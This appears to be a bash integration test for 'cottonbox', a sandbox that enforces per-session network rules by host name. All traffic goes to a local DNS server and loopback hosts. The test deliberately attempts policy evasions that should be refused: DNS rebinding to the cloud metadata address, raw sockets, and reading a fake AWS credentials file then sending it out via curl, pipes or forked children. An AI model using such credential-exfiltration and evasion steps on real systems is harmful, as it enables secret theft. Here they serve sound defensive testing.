#!/usr/bin/env bash
# Host names in a real session (issue 19): the session resolves through
# cottonbox's resolver, so a rule naming a host holds for the addresses this
# session was given for that name, and for nothing else.  Real clients
# (curl, Python, Node, bash's /dev/tcp, dig, getent), a real upstream
# (dnsmasq on a loopback address), servers on loopback addresses the test
# picks; nothing leaves the machine.
#   session_net.sh COTTONBOX
set -uo pipefail
cb=$(readlink -f "$1")
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root (the session's resolver serves port 53)"; exit 77; }
for t in dnsmasq curl python3 dig getent; do
    command -v "$t" >/dev/null || { echo "SKIP: $t is not installed (scripts/install-deps.sh installs it)"; exit 77; }
done
unshare -m true 2>/dev/null || { echo "SKIP: this host refuses mount namespaces"; exit 77; }

n=$(( $$ % 200 + 20 ))
up=127.83.$n.2          # dnsmasq, the upstream
ok=127.86.$n.10         # ok.cbtest
bad=127.86.$n.20        # bad.cbtest
work=$(mktemp -d /tmp/cb-net.XXXXXX)
pids=()
cleanup() { kill "${pids[@]}" 2>/dev/null; wait 2>/dev/null; rm -rf "$work"; }
trap cleanup EXIT
db=$work/audit.db
echo "$ok rebind.cbtest" > "$work/hosts"
dnsmasq -C /dev/null -k --no-resolv --no-hosts --addn-hosts="$work/hosts" --local=/cbtest/ \
    --listen-address=$up --bind-interfaces --port=5353 --user=root --group=root --pid-file= \
    --host-record=ok.cbtest,$ok --host-record=bad.cbtest,$bad --cname=alias.cbtest,bad.cbtest \
    --log-facility=/dev/null & pids+=($!)
for a in $ok $bad; do
    python3 -m http.server --bind $a 8080 --directory "$work" >/dev/null 2>&1 & pids+=($!)
done
for i in $(seq 100); do
    dig +short +time=1 +tries=1 @$up -p 5353 ok.cbtest 2>/dev/null | grep -q "$ok" &&
        curl -s -o /dev/null http://$ok:8080/ && curl -s -o /dev/null http://$bad:8080/ && break
    sleep 0.1
done
echo hello > "$work/index.html"

cat > "$work/policy.yaml" <<YAML
version: 1
rules:
  - id: no-metadata
    action: net.*
    host: [169.254.169.254]
    decision: deny
  - id: bad-host
    action: net.*
    host: [bad.cbtest]
    decision: deny
  - id: ok-host
    action: net.connect
    host: [ok.cbtest, rebind.cbtest]
    port: [8080]
    decision: allow
  - id: no-server-on-8181
    action: net.listen
    port: [8181]
    decision: deny
  - id: nothing-else
    action: [net.connect, net.send]
    host: ["0.0.0.0/0", "::/0"]
    decision: deny
YAML

fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }
session() { "$cb" run --db "$db" --policy "$work/policy.yaml" --resolver $up:5353 --ask deny -q -- "$@"; }
expect() {  # expect NAME ok|refused COMMAND...
    local name=$1 want=$2; shift 2
    out=$(session "$@" 2>&1); rc=$?
    if [ "$want" = ok ] && [ $rc -ne 0 ]; then fail "$name: exit $rc: $out"; return; fi
    if [ "$want" = refused ] && [ $rc -eq 0 ]; then fail "$name: got through: $out"; return; fi
    echo "ok   $name (exit $rc)"
}
last_session() { "$cb" sessions --db "$db" --json | tail -n 1 | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])'; }
events_json() { "$cb" events --db "$db" --session "$(last_session)" --json > "$work/ev.json"; }
# The last session recorded a net event with this decision, object and names.
recorded() {  # recorded WHAT DECISION PATH [HOST]
    events_json
    python3 - "$work/ev.json" "$2" "$3" "${4:-}" <<'PY' || fail "$1: not recorded as $2 $3 ${4:-}"
import json, sys
f, decision, path, host = sys.argv[1:]
for line in open(f):
    e = json.loads(line)
    if e.get("decision") == decision and e.get("path") == path and \
            (not host or host in (e.get("net") or {}).get("hosts", [])):
        sys.exit(0)
sys.exit(1)
PY
}

# ---- the session's view
out=$(session cat /etc/resolv.conf)
grep -q '^nameserver 127\.84\.' <<<"$out" || fail "the session's resolv.conf names another server: $out"

# ---- by name: allowed, attributed
expect "curl by an allowed name" ok curl -sf -o /dev/null http://ok.cbtest:8080/
recorded "curl by an allowed name" allow "tcp:$ok:8080" ok.cbtest
expect "python by an allowed name" ok python3 -c "
import urllib.request; urllib.request.urlopen('http://ok.cbtest:8080/', timeout=5).read()"
recorded "python by an allowed name" allow "tcp:$ok:8080" ok.cbtest
if command -v node >/dev/null; then
    expect "node (getaddrinfo) by an allowed name" ok node -e "
require('http').get('http://ok.cbtest:8080/', r => process.exit(r.statusCode == 200 ? 0 : 1)).on('error', () => process.exit(2))"
    expect "node (c-ares) by an allowed name" ok node -e "
const dns = require('dns'), net = require('net');
dns.resolve4('ok.cbtest', (e, a) => { if (e) process.exit(3);
  net.connect(8080, a[0], () => process.exit(0)).on('error', () => process.exit(2)); })"
fi
expect "dig over TCP through the session's resolver" ok sh -c "dig +tcp +short ok.cbtest | grep -qx $ok"
expect "bash /dev/tcp by an allowed name" ok bash -c "exec 3<>/dev/tcp/ok.cbtest/8080"

# ---- a denied name: refused at resolution, whatever the client
expect "curl by a denied name" refused curl -sf -o /dev/null http://bad.cbtest:8080/
expect "a CNAME to a denied name" refused curl -sf -o /dev/null http://alias.cbtest:8080/
expect "getent by a denied name" refused getent hosts bad.cbtest
expect "bash /dev/tcp by a denied name" refused bash -c "exec 3<>/dev/tcp/bad.cbtest/8080"
"$cb" hosts --db "$db" --session "$(last_session)" --json > "$work/hosts.json"
grep -q '"bad.cbtest"' "$work/hosts.json" || fail "cottonbox hosts does not list the refused lookup: $(cat "$work/hosts.json")"

# ---- around the name: addresses, other resolvers
expect "curl to the denied host's address" refused curl -sf -o /dev/null http://$bad:8080/
recorded "curl to the denied host's address" deny "tcp:$bad:8080"
expect "the allowed host's address, never resolved in this session" refused curl -sf -o /dev/null http://$ok:8080/
expect "an IPv4-mapped IPv6 address" refused python3 -c "
import socket; s = socket.socket(socket.AF_INET6); s.settimeout(5); s.connect(('::ffff:$bad', 8080))"
recorded "an IPv4-mapped IPv6 address" deny "tcp:$bad:8080"
expect "a second resolver (UDP)" refused python3 -c "
import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('$up', 5353))"
expect "a second resolver (TCP)" refused dig +tcp +short +time=2 +tries=1 @$up -p 5353 ok.cbtest
expect "a forked, setsid child" refused sh -c "setsid python3 -c \"
import socket; socket.create_connection(('$bad', 8080), timeout=5)\""
expect "a raw IP socket (packets made by hand)" refused python3 -c "
import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, socket.IPPROTO_UDP)"
recorded "a raw IP socket" deny "raw socket"
expect "a packet socket" refused python3 -c "
import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)"
recorded "a packet socket" deny "packet socket"
if command -v busybox >/dev/null; then
    expect "busybox wget (its own resolver code)" refused busybox wget -q -O /dev/null http://$bad:8080/
fi

# ---- listen: judged on the address the socket is bound to
expect "listen on a denied port" refused python3 -c "
import socket; s = socket.socket(); s.bind(('127.0.0.1', 8181)); s.listen()"
recorded "listen on a denied port" deny "tcp:127.0.0.1:8181"
expect "listen on another port" ok python3 -c "
import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print(s.getsockname())"

# ---- rebinding: a name that re-resolves to a denied address
expect "before rebinding" ok sh -c "getent hosts rebind.cbtest | grep -q $ok"
echo "169.254.169.254 rebind.cbtest" > "$work/hosts"
kill -HUP "${pids[0]}"; sleep 0.3
expect "after rebinding to the metadata service" refused getent hosts rebind.cbtest

# ---- what it read, then where it sent it: read(@secrets)
mkdir -p "$work/home/.aws"
echo "aws_secret_access_key = AKIA-not-a-real-one" > "$work/home/.aws/credentials"
{
    echo "version: 1"
    echo "lists:"
    echo "  secrets: [\"$work/home/.aws/**\"]"
    echo "rules:"
    echo "  - id: secret-senders"
    echo "    action: [net.connect, net.send]"
    echo "    when: read(@secrets)"
    echo "    decision: ask"
    sed -n '/^rules:/,$p' "$work/policy.yaml" | tail -n +2
} > "$work/taint.yaml"
cred=$work/home/.aws/credentials
for tracer in seccomp,ebpf seccomp; do
    tsession() { "$cb" run --db "$db" --policy "$work/taint.yaml" --resolver $up:5353 --tracer $tracer --ask deny -q -- "$@"; }
    texpect() {
        local name="$1 ($tracer)" want=$2; shift 2
        out=$(tsession "$@" 2>&1); rc=$?
        if [ "$want" = ok ] && [ $rc -ne 0 ]; then fail "$name: exit $rc: $out"; return; fi
        if [ "$want" = refused ] && [ $rc -eq 0 ]; then fail "$name: got through: $out"; return; fi
        echo "ok   $name (exit $rc)"
    }
    texpect "no secret read: the connection goes" ok python3 -c "
import socket; socket.create_connection(('ok.cbtest', 8080), timeout=5)"
    texpect "python reads the credentials, then connects" refused python3 -c "
import socket; open('$cred').read(); socket.create_connection(('ok.cbtest', 8080), timeout=5)"
    recorded "python reads the credentials, then connects ($tracer)" deny "tcp:$ok:8080" ok.cbtest
    texpect "a child forked after the read" refused python3 -c "
import os, socket; open('$cred').read()
if os.fork() == 0:
    try: socket.create_connection(('ok.cbtest', 8080), timeout=5); os._exit(0)
    except OSError: os._exit(1)
_, st = os.wait(); raise SystemExit(os.waitstatus_to_exitcode(st))"
    texpect "through a file another process wrote" refused sh -c "cat '$cred' > '$work/stash'; curl -sf -o /dev/null -G --data-urlencode k@'$work/stash' http://ok.cbtest:8080/"
    texpect "through a pipe" refused sh -c "cat '$cred' | (sleep 0.3; curl -sf -o /dev/null -G --data-urlencode k@- http://ok.cbtest:8080/)"
    texpect "a sibling that read nothing" ok sh -c "cat '$cred' > /dev/null; curl -sf -o /dev/null http://ok.cbtest:8080/"
done

echo "session_net: $fails failures"
[ $fails -eq 0 ]
